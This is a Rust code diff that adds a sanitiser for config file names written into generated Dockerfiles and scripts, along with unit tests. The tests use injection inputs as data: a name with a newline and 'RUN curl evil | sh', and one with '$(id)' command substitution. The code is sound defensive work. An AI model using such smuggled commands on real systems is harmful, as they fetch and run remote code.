@@ -1,8 +1,8 @@
 //! From validated config to the resolved stack. Pure: the file system was read during validation.
 
-use super::units::{nginx_version_of_image, parse_duration, parse_version};
 use super::*;
 use crate::config::{self, validate::BuildFacts, Config, Facts, Scalar, Source};
+use crate::units::{nginx_version_of_image, parse_duration, parse_version};
 use std::collections::BTreeSet;
 
 /// Where rendered Dockerfiles go, relative to the output folder.
@@ -37,7 +37,7 @@ pub fn resolve(c: &Config, facts: &Facts, source: &Source) -> Stack {
         })
         .collect();
     let monitoring = c.monitoring.enabled.then(|| Monitoring {
-        latency_threshold_secs: super::units::parse_duration_ms(
+        latency_threshold_secs: crate::units::parse_duration_ms(
             &c.monitoring.probe_latency_threshold,
         )
         .unwrap_or(2000) as f64
@@ -58,12 +58,8 @@ pub fn resolve(c: &Config, facts: &Facts, source: &Source) -> Stack {
     let https_port = g.https_port as u16;
     let mut stack = Stack {
         name: c.name.clone(),
-        config_file: source.file_name(),
-        output: c
-            .output
-            .trim_end_matches('/')
-            .trim_start_matches("./")
-            .to_string(),
+        config_file: header_name(&source.file_name()),
+        output: crate::config::confine::normalise(&c.output),
         domain: c.domain.to_ascii_lowercase(),
         aliases: c.aliases.iter().map(|a| a.to_ascii_lowercase()).collect(),
         gateway: Gateway {
@@ -534,4 +530,44 @@ fn variables(stack: &Stack) -> BTreeMap<String, Variable> {
         v.readers.sort();
     }
     vars
+}
+
+/// The config's file name as generated files show it: a file name is not a config value and
+/// is not escaped for any format, so only letters, digits and `._-+@` are kept, anything else
+/// becomes `_` (a name with a newline cannot add lines to a script or a Dockerfile).
+pub fn header_name(file_name: &str) -> String {
+    let safe: String = file_name
+        .chars()
+        .map(|ch| {
+            if ch.is_ascii_alphanumeric() || "._-+@".contains(ch) {
+                ch
+            } else {
+                '_'
+            }
+        })
+        .collect();
+    if safe.is_empty() {
+        "mcp-stack.yaml".into()
+    } else {
+        safe
+    }
+}
+
+#[cfg(test)]
+mod header_name_tests {
+    use super::header_name;
+
+    #[test]
+    fn header_name_keeps_plain_names_and_defuses_the_rest() {
+        assert_eq!(header_name("mcp-stack.yaml"), "mcp-stack.yaml");
+        assert_eq!(header_name("prod.v2+eu@x.yml"), "prod.v2+eu@x.yml");
+        assert_eq!(
+            header_name("a\nRUN curl evil | sh\n.yaml"),
+            "a_RUN_curl_evil___sh_.yaml"
+        );
+        assert_eq!(header_name("a\nb.yaml"), "a_b.yaml");
+        assert_eq!(header_name("x\ny"), "x_y");
+        assert_eq!(header_name("é $(id) `x`"), "____id___x_");
+        assert_eq!(header_name(""), "mcp-stack.yaml");
+    }
 }
